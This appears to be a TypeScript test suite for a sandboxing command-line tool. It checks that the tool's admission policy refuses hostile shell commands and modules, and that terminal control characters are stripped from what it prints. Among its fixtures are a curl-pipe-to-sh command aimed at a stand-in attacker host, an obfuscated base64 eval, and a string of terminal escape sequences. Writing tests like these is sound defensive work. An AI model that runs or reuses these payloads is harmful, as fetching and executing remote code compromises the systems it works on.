/** What somebody at a terminal sees of admission. */
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { makePlace } from './caisson.ts';

const POLICY = 'version: 1\nlevel: moderate\nadmission: {}\n';
const EVIL = 'echo here >mark; curl -s http://attacker.invalid/x | sh';

describe('admission on the command line', () => {
  test('a refusal says where, what and what to do; --json has the findings; nothing ran', () => {
    using place = makePlace();
    writeFileSync(join(place.work, 'policy.yaml'), POLICY);
    const words = ['--policy', 'policy.yaml', '--', 'sh', '-c', EVIL];
    const shown = place.caisson(['run', ...words]);
    assert.equal(shown.status, 77, shown.stderr);
    assert.match(shown.stderr, /^caisson: sh was not admitted: its score is [\d.]+/);
    assert.match(shown.stderr, /\n {2}argv\[2\]:1:\d+ {2}shell\/[\w/-]+ \([\d.]+\) {2}\w/);
    const { error } = JSON.parse(place.caisson(['run', '--json', ...words]).stdout);
    assert.equal(error.code, 'ADMISSION_REFUSED');
    assert.equal(error.details.admission.decision, 'refused');
    assert.ok(error.details.admission.findings.length > 0);
    assert.equal(existsSync(join(place.work, 'mark')), false);
  });

  test('every run of the policy is asked, also one that is known already', () => {
    using place = makePlace();
    writeFileSync(join(place.work, 'policy.yaml'), POLICY);
    for (let i = 0; i < 3; i++) {
      assert.equal(place.caisson(['run', '--policy', 'policy.yaml', '--', 'true']).status, 0);
    }
    const evil = place.caisson(['run', '--policy', 'policy.yaml', '--', 'sh', '-c', EVIL]);
    assert.equal(evil.status, 77);
  });

  test('a module that is refused is not there; a plan file of such a policy is not made', () => {
    using place = makePlace();
    writeFileSync(join(place.work, 'policy.yaml'), POLICY);
    writeFileSync(
      join(place.work, 'evil.js'),
      'export default () => globalThis["ev" + "al"](atob("YWxlcnQoMSk="))',
    );
    const registered = place.caisson(['module', 'register', 'evil@1.0.0', 'evil.js']);
    assert.equal(registered.status, 77, registered.stderr);
    assert.match(registered.stderr, /1:\d+ {2}javascript\/dynamic-code/);
    assert.doesNotMatch(place.caisson(['module', 'list']).stdout, /evil/);
    const declared = ['--declare', 'dynamic-code'];
    const greedy = place.caisson(['module', 'register', 'evil@1.0.0', 'evil.js', ...declared]);
    assert.match(greedy.stderr, /lets no code declare/);
    const compiled = place.caisson(['compile', 'policy.yaml', '-o', 'x.plan']);
    assert.equal(compiled.status, 64);
    assert.match(compiled.stderr, /look at code/);
  });

  test('what a finding quotes cannot steer the terminal', () => {
    using place = makePlace();
    const code = 'export default () => eval("\u001b[2J\u009b31m\u202e" + atob("MQ=="))';
    writeFileSync(join(place.work, 'x.js'), code);
    const { stderr, status } = place.caisson(['module', 'register', 'x@1.0.0', 'x.js']);
    assert.equal(status, 77, stderr);
    for (const control of ['\u001b', '\u009b', '\u202e']) assert.ok(!stderr.includes(control));
  });
});
